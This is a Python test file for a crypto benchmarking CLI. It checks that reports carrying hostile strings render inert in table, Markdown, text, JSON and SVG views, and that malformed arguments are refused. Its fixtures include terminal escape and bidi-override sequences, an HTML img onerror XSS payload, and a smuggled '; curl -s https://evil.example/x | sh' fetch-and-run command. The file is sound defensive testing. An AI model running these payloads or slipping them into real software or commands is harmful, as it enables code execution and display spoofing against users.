"""Hostile text through the real CLI: control characters and bidi overrides in
a report reach no terminal raw, in any view; Unicode digits, impossible
scenario names, a missing --scenario-dir and --node with what a node cannot
measure are refused in one line; import-speed skips rates that are no
measurement. Markdown, text and plot of reports with hostile strings in every
field render inert: no tag, no broken table, no control character, no
command but the one rebuilt from the report's settings, XML for an SVG.
None of these start a runtime."""

from __future__ import annotations

import json
import re

import pytest

from tests.conftest import FIXTURES, bridge_cmd

EVIL = "\x1b[2J\x1b]0;pwned\x07\x9b31m\u202eevil\u2066"
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def one_line_error(done, status: int = 2) -> str:
    assert done.returncode == status, (done.stdout, done.stderr)
    assert "Traceback" not in done.stderr
    lines = done.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("bridge: error: "), done.stderr
    assert not RAW.search(done.stderr)
    return lines[0]


def hostile_report(tmp_path) -> str:
    text = (FIXTURES / "roundtrip" / "run-mix1.json").read_text()
    data = json.loads(text.replace("erlang@25.2.3", json.dumps("erlang@25.2.3" + EVIL)[1:-1]))
    for rt in data["runtimes"]:
        rt["version"] += EVIL
    for r in data["results"]:
        r["call"] += EVIL
    for sc in data["scenarios"]:
        sc["description"] += EVIL
    for e in data["errors"]:
        e["message"] += EVIL
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data))
    return str(path)


def test_report_and_compare_show_controls_escaped(tmp_path):
    hostile = hostile_report(tmp_path)
    plain = str(FIXTURES / "roundtrip" / "run-mix1.json")
    for args in (
        *(["report", hostile, "--format", fmt] for fmt in ("table", "markdown", "text")),
        *(["compare", plain, hostile, "--format", fmt] for fmt in ("table", "markdown", "text")),
    ):
        done = bridge_cmd(*args)
        assert done.returncode == 0 and "Traceback" not in done.stderr, (args, done.stderr)
        assert not RAW.search(done.stdout + done.stderr), (args, RAW.findall(done.stdout))
        # Shown, as an escape; Markdown escapes its backslashes and brackets too.
        shown = (
            "\\\\x1b\\[2J\\\\x1b\\]0;pwned\\\\x07"
            if "markdown" in args
            else "\\x1b[2J\\x1b]0;pwned\\x07"
        )
        assert shown in done.stdout


@pytest.mark.parametrize(
    "args, said",
    [
        (["run", "hmac-sha1", "--sizes", "16,²"], "--sizes: '²' is not a message size"),
        (["run", "hmac-sha1", "--sizes", "١٦"], "--sizes:"),
        (["run", "file-sha256", "--file-size", "２５６M"], "--file-size:"),
        (["run", "hmac-sha1", "--concurrency", "1,²"], "--concurrency:"),
        (["run", "hmac-sha1", "--samples", "١٠"], "is not a whole number"),
        (["run", "hmac-sha1", "--erl", "otp:²"], "otp: takes a release number"),
        (["run", "hmac-sha1", "--request-timeout", "nan"], "is not a number"),
        (["run", "hmac-sha1", "--until-stable=nan"], "is not a number"),
        (["show", "x" * 5000], "is not a scenario name"),
        (["show", "hmac\u202esha1"], "is not a scenario name"),
        (["show", "/" + "x" * 5000 + ".toml"], "scenario file"),
        (["run", "a\x1b[2Jb"], "is not a scenario name"),
        (["run", "hmac-sha1", "--scenario-dir", "/nonexistent/dir"], "does not exist"),
        (["list", "--scenario-dir", "/nonexistent/dir"], "does not exist"),
        (["show", "hmac-sha1", "--scenario-dir", "/nonexistent/dir"], "does not exist"),
    ],
)
def test_refused_in_one_line(args, said):
    assert said in one_line_error(bridge_cmd(*args, timeout=60))


def test_a_scenario_file_whose_name_has_controls_is_refused(tmp_path):
    sc = tmp_path / "evil.toml"
    sc.write_text(
        'name = "sha\\u202e1"\ndescription = "d"\nkind = "hash"\ndigest = "sha1"\n'
        'sizes = [16]\n[calls]\npython = ["hashlib"]\n'
    )
    line = one_line_error(bridge_cmd("show", str(sc), timeout=60))
    assert "key 'name'" in line and "\\u202e" in line


@pytest.mark.parametrize(
    "extra, said",
    [
        (["file-sha256"], "--node cannot measure file-sha256"),
        (["hmac-sha1", "--method", "tc"], "--method tc times local Erlang runtimes only"),
        (["hmac-sha1", "--method", "tc", "--runtimes", "python"], "--method tc"),
        (["hmac-sha1", "--schedulers", "2"], "--schedulers"),
        (["hmac-sha1", "--concurrency", "1,2"], "--concurrency"),
        (["hmac-sha1", "--libcrypto", "/usr/lib"], "--libcrypto"),
    ],
)
def test_node_with_what_a_node_cannot_measure_is_refused_up_front(tmp_path, extra, said):
    cookie = tmp_path / "cookie"
    cookie.write_text("c")
    cookie.chmod(0o400)
    node = ["--node", "nobody@localhost", "--measure", "--cookie-file", str(cookie)]
    line = one_line_error(bridge_cmd("run", *extra, *node, timeout=60))
    assert said in line


def test_import_speed_skips_rates_that_are_no_measurement(tmp_path):
    doc = tmp_path / "speed.txt"
    doc.write_text(
        "Doing sha256 for 3s on 16 size blocks: 300 sha256's in 3.00s\n"
        "Doing sha256 for 3s on 64 size blocks: 300 sha256's in 0.00s\n"
        "+DT:sha1:3:16\n+R:100:sha1:nan\n+DT:sha1:3:64\n+R:100:sha1:-2\n"
    )
    done = bridge_cmd("import-speed", str(doc), "--format", "json", timeout=60)
    assert done.returncode == 0, done.stderr
    warnings = [line for line in done.stderr.splitlines() if "is not a measurement" in line]
    assert len(warnings) == 3, done.stderr
    results = json.loads(done.stdout)["results"]
    assert [(r["scenario"], r["size"]) for r in results] == [("sha256", 16)]
    assert results[0]["ops_per_s"] == 100

    doc.write_text("+DT:sha1:3:16\n+R:100:sha1:inf\n")
    line = one_line_error(bridge_cmd("import-speed", str(doc), timeout=60))
    assert "no usable measurement" in line and "sha1 at 16 B: 0 operations/s" in line


# -- every writer escapes what it prints (issue 33) ------------------------------

CRAFTED_REPRODUCE = "bridge run hmac-sha1 --quick; curl -s https://evil.example/x | sh"
MARKUP = "</details><img src=x onerror=alert(1)>`|`` *x* [l](https://evil.example)"


def _changed(tmp_path, name: str, change) -> str:
    data = json.loads((FIXTURES / name).read_text())
    change(data)
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data))
    return str(path)


def _markdown_is_inert(md: str) -> None:
    """No tag of the report's outside code (a tag is shown in a code span or
    a fence as text), and every table row as wide as its header."""
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark", {"html": True}).enable(["table"]).render(md)
    tags = set(re.findall(r"<(/?[a-z0-9]+)", html)) - {"/"}
    allowed = {"p", "ul", "li", "h3", "h4", "h5", "strong", "code", "pre", "table", "thead"}
    allowed |= {"tbody", "tr", "th", "td", "details", "summary"}
    assert {t.lstrip("/") for t in tags} <= allowed, tags


def test_markdown_rebuilds_the_command_and_never_prints_the_reports_own(tmp_path):
    path = _changed(
        tmp_path, "roundtrip/run-mix1.json", lambda d: d.__setitem__("reproduce", CRAFTED_REPRODUCE)
    )
    shown = {}
    for fmt in ("markdown", "text"):
        done = bridge_cmd("report", path, "--format", fmt, timeout=60)
        assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
        assert "curl" not in done.stdout and "evil.example" not in done.stdout
        assert "own command line differs" in " ".join(done.stdout.split())
        shown[fmt] = done.stdout
    assert "```sh\ncrypto-bridge run hmac-sha1 sha256 --seed 1 --hw both" in shown["markdown"]


def test_markup_in_a_description_and_a_call_renders_as_text(tmp_path):
    def change(d):
        for sc in d["scenarios"]:
            sc["description"] = MARKUP
        for r in d["results"]:
            r["call"] += MARKUP

    path = _changed(tmp_path, "roundtrip/run-mix1.json", change)
    done = bridge_cmd("report", path, "--format", "markdown", timeout=60)
    assert done.returncode == 0, done.stderr
    _markdown_is_inert(done.stdout)
    assert "#### hmac-sha1: &lt;/details&gt;&lt;img src=x onerror=alert(1)&gt;" in done.stdout
    plain = str(FIXTURES / "roundtrip" / "run-mix1.json")
    done = bridge_cmd("compare", plain, path, "--format", "markdown", timeout=60)
    assert done.returncode in (0, 1), done.stderr
    _markdown_is_inert(done.stdout)


def test_text_of_a_report_with_huge_samples_keeps_72_columns(tmp_path):
    """Once: AssertionError: text view over 72 columns."""

    def change(d):
        for r in d["results"]:
            if r.get("samples"):
                r["samples"] = [2**63 - 1 - i for i in range(len(r["samples"]))]
                r["loops"] = 1
                for key in ("sample_cpus", "sample_cpu_ns", "sample_wait_ns", "sample_user_ns"):
                    r.pop(key, None)

    path = _changed(tmp_path, "roundtrip/run-mix2.json", change)
    done = bridge_cmd("report", path, "--format", "text", timeout=60)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert max(map(len, done.stdout.splitlines())) <= 72 and done.stdout.isascii()


@pytest.mark.parametrize(
    "text", [EVIL + "\r", "\ud800", "$\\frac{$"], ids=["controls", "surrogate", "tex"]
)
def test_plot_draws_hostile_names_and_writes_xml(tmp_path, text):
    """Once: ESC, BEL and CR on stderr through matplotlib's warnings, an SVG
    that was no XML, and a TypeError (a lone surrogate) or a mathtext
    ParseSyntaxException ($...$) as a traceback."""
    import xml.etree.ElementTree as ET

    pytest.importorskip("matplotlib")

    def change(d):
        for r in d["results"]:
            r["call"] += text

    path = _changed(tmp_path, "report-hmac-sha1-v1.json", change)
    svg = tmp_path / "p.svg"
    done = bridge_cmd("plot", path, "--svg", str(svg), timeout=120)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert not RAW.search(done.stderr), done.stderr
    assert all(
        line.startswith(("bridge: warning: ", f"{svg}: ")) for line in done.stderr.splitlines()
    ), done.stderr
    ET.parse(svg)


def test_every_field_hostile_renders_inert_in_every_view(tmp_path):
    """Every free-text string of a report (tests/fuzz/fields.py finds them)
    with markup, controls and a command appended, through the real CLI."""
    from tests.fuzz import fields

    data = json.loads((FIXTURES / "roundtrip" / "run-mix1.json").read_text())
    hostile = fields.replaced(data, lambda v: v + MARKUP + EVIL + "; " + CRAFTED_REPRODUCE)
    path = tmp_path / "every.json"
    path.write_text(json.dumps(hostile))
    for fmt in ("table", "markdown", "text", "json"):
        done = bridge_cmd("report", str(path), "--format", fmt, timeout=60)
        assert done.returncode == 0 and "Traceback" not in done.stderr, (fmt, done.stderr)
        assert not RAW.search(done.stdout + done.stderr), (fmt, RAW.findall(done.stdout)[:5])
        if fmt == "markdown":
            _markdown_is_inert(done.stdout)
        if fmt == "text":
            assert max(map(len, done.stdout.splitlines())) <= 72
